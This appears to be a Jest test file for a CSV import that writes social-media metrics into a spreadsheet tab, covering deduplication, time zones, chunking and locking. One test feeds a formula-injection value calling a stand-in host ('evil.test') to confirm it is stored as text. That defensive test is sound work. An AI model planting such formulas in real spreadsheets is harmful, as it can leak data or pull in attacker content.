import { prepareImport, analyseTable } from '../../src/import/analyse';
import { chunkRequests } from '../../src/import/protocol';
import { readCsvBytes } from '../../src/import/read';
import { DATA_SHEET_NAME, importCsvRows } from '../../src/import/server';
import { canonicalHeaders } from '../../src/import/targets';
import { fixtureBytes } from './helpers';
import { StubSpreadsheet } from './stub-spreadsheet';

/** The whole path the dialog takes: read, prepare with proposals, send chunk by chunk. */
function importFixture(book: StubSpreadsheet, name: string, limits?: { rows: number; bytes: number }) {
  const read = readCsvBytes(fixtureBytes(name));
  if (!read.ok) throw new Error(read.message);
  const analysis = analyseTable(read.table);
  const prepared = prepareImport(read.table, analysis, {
    targets: analysis.mapping.map((column) => column.target),
    channel: analysis.channel,
  });
  const requests = chunkRequests(
    prepared.columns,
    prepared.rows.map((row) => row.cells),
    prepared.rows.map((row) => row.row),
    limits,
  );
  return requests.map((request) => importCsvRows(book.services(), request));
}

const iso = (value: unknown) =>
  value instanceof Date ? new Date(value.getTime() + 7 * 3600e3).toISOString().slice(0, 10) : value;

describe('importCsvRows', () => {
  it('creates the tab with the canonical headers and writes header and rows in one setValues', () => {
    const book = new StubSpreadsheet();
    const [result] = importFixture(book, 'tiktok-overview.csv');
    expect(result).toEqual({ ok: true, added: 3, skipped: [], addedColumns: [], createdSheet: true });
    const sheet = book.sheets.get(DATA_SHEET_NAME)!;
    expect(sheet.rows[0]).toEqual(canonicalHeaders());
    const header = canonicalHeaders();
    const at = (row: number, name: string) => iso(sheet.rows[row][header.indexOf(name)]);
    expect([
      at(1, 'Date'),
      at(1, 'Channel'),
      at(1, 'Impressions'),
      at(1, 'Likes'),
      at(1, 'Profile visits'),
    ]).toEqual(['2026-10-01', 'TikTok', 5820, 640, 212]);
    expect(at(1, 'Saves')).toBe('');
    expect(book.callsTo('Range.setValues')).toBe(1);
    expect(book.callsTo('Range.getValues')).toBe(0);
    expect(book.locksHeld).toBe(0);
  });

  it('adds nothing when the same file is imported again, and says why for each row', () => {
    const book = new StubSpreadsheet();
    importFixture(book, 'meta-facebook-posts.csv');
    const before = book.sheets.get(DATA_SHEET_NAME)!.rows.length;
    book.calls.clear();
    const [again] = importFixture(book, 'meta-facebook-posts.csv');
    expect(again).toEqual({
      ok: true,
      added: 0,
      skipped: [2, 3, 4].map((row) => ({
        row,
        reason: 'already in the sheet (same date, channel and post)',
      })),
      addedColumns: [],
      createdSheet: false,
    });
    expect(book.sheets.get(DATA_SHEET_NAME)!.rows.length).toBe(before);
    expect(book.callsTo('Range.getValues')).toBe(1);
    expect(book.callsTo('Range.setValues')).toBe(0);
  });

  it('reads existing dates in the spreadsheet’s time zone, not UTC', () => {
    // 2026-10-05 at midnight in UTC+7 is 2026-10-04 in UTC: a UTC key would miss the duplicate.
    const book = new StubSpreadsheet();
    book.addSheet(DATA_SHEET_NAME, [
      ['Date', 'Channel', 'Likes'],
      [book.midnight(2026, 10, 5), 'Facebook', 1],
    ]);
    const result = importCsvRows(book.services(), {
      columns: ['date', 'channel', 'likes'],
      rows: [
        ['2026-10-05', 'facebook', 2],
        ['2026-10-04', 'Facebook', 3],
      ],
      rowNumbers: [2, 3],
    });
    expect(result).toMatchObject({
      ok: true,
      added: 1,
      skipped: [{ row: 2, reason: expect.stringMatching(/already/) }],
    });
  });

  it('keeps the user’s column order and appends only the columns the tab lacks', () => {
    const book = new StubSpreadsheet();
    const sheet = book.addSheet(DATA_SHEET_NAME, [
      ['Notes', 'Kanal', 'Datum', 'Gilla-markeringar'],
      ['my note', 'LinkedIn', '2026-09-30', 7],
    ]);
    const [result] = importFixture(book, 'linkedin-page-metrics.csv');
    expect(result).toMatchObject({
      ok: true,
      added: 3,
      addedColumns: ['Impressions', 'Comments', 'Shares', 'Clicks'],
    });
    expect(sheet.rows[0]).toEqual([
      'Notes',
      'Kanal',
      'Datum',
      'Gilla-markeringar',
      'Impressions',
      'Comments',
      'Shares',
      'Clicks',
    ]);
    expect(sheet.rows[1]).toEqual(['my note', 'LinkedIn', '2026-09-30', 7]);
    expect(sheet.rows[2].map(iso)).toEqual(['', 'LinkedIn', '2026-10-01', 31, 812, 4, 2, 25]);
    // One read; one write for the new header cells and one for the rows.
    expect(book.callsTo('Range.getValues')).toBe(1);
    expect(book.callsTo('Range.setValues')).toBe(2);
  });

  it('sends big imports in chunks: one read and one row write per chunk, no duplicates across chunks', () => {
    const book = new StubSpreadsheet();
    const results = importFixture(book, 'meta-instagram-posts.csv', { rows: 1, bytes: 1e6 });
    expect(results.map((result) => result.ok && result.added)).toEqual([1, 1, 1]);
    // The first call creates the tab (no read); each later call reads once and writes once.
    expect(book.callsTo('Range.getValues')).toBe(2);
    expect(book.callsTo('Range.setValues')).toBe(3);
    expect(book.sheets.get(DATA_SHEET_NAME)!.rows.length).toBe(4);
  });

  it('writes text that looks like a formula, a number or a sign as text', () => {
    const book = new StubSpreadsheet();
    const result = importCsvRows(book.services(), {
      columns: ['date', 'channel', 'post_id', 'likes'],
      rows: [
        ['2026-10-01', '=IMPORTXML("http://evil.test")', '+46701234567', 1],
        ['2026-10-01', '@team', '-1', 2],
        ['2026-10-01', 'X', '1234567890123456789', 3],
      ],
      rowNumbers: [2, 3, 4],
    });
    expect(result).toMatchObject({ ok: true, added: 3 });
    const sheet = book.sheets.get(DATA_SHEET_NAME)!;
    expect(sheet.formulas).toEqual([]);
    expect(sheet.rows.slice(1).map((row) => row.slice(1, 3))).toEqual([
      ['=IMPORTXML("http://evil.test")', '+46701234567'],
      ['@team', '-1'],
      ['X', '1234567890123456789'],
    ]);
  });

  it('says the sheet is busy when another import holds the lock, and writes nothing', () => {
    const book = new StubSpreadsheet();
    book.lockFree = false;
    const result = importCsvRows(book.services(), {
      columns: ['date', 'channel'],
      rows: [['2026-10-01', 'X']],
      rowNumbers: [2],
    });
    expect(result).toEqual({
      ok: false,
      message: expect.stringMatching(/Someone else is changing the data sheet/),
    });
    expect(book.callsTo('Spreadsheet.getSheetByName')).toBe(0);
  });

  it('refuses requests it cannot read, and rows with bad cells one by one', () => {
    const book = new StubSpreadsheet();
    expect(
      importCsvRows(book.services(), { columns: ['date', 'nonsense'], rows: [], rowNumbers: [] }),
    ).toMatchObject({ ok: false });
    expect(importCsvRows(book.services(), null)).toMatchObject({ ok: false });
    const result = importCsvRows(book.services(), {
      columns: ['date', 'channel', 'likes'],
      rows: [
        ['2026-13-01', 'X', 1],
        ['2026-10-01', '', 1],
        ['2026-10-01', 'X', 'many'],
        ['2026-10-01', 'X', 1],
        ['2026-10-01', 'x', 2],
      ],
      rowNumbers: [2, 3, 4, 5, 6],
    });
    expect(result).toEqual({
      ok: true,
      added: 1,
      skipped: [
        { row: 2, reason: 'the row could not be read' },
        { row: 3, reason: 'the row could not be read' },
        { row: 4, reason: 'the row could not be read' },
        { row: 6, reason: 'the same date, channel and post as row 5' },
      ],
      addedColumns: [],
      createdSheet: true,
    });
    expect(book.locksHeld).toBe(0);
  });

  it('grows the grid before writing past it', () => {
    const book = new StubSpreadsheet();
    const sheet = book.addSheet(DATA_SHEET_NAME, [['Date', 'Channel']]);
    sheet.maxRows = 2;
    sheet.maxColumns = 2;
    const result = importCsvRows(book.services(), {
      columns: ['date', 'channel', 'likes'],
      rows: [
        ['2026-10-01', 'X', 1],
        ['2026-10-02', 'X', 2],
      ],
      rowNumbers: [2, 3],
    });
    expect(result).toMatchObject({ ok: true, added: 2, addedColumns: ['Likes'] });
    expect(sheet.rows.map((row) => row.map(iso))).toEqual([
      ['Date', 'Channel', 'Likes'],
      ['2026-10-01', 'X', 1],
      ['2026-10-02', 'X', 2],
    ]);
  });
});
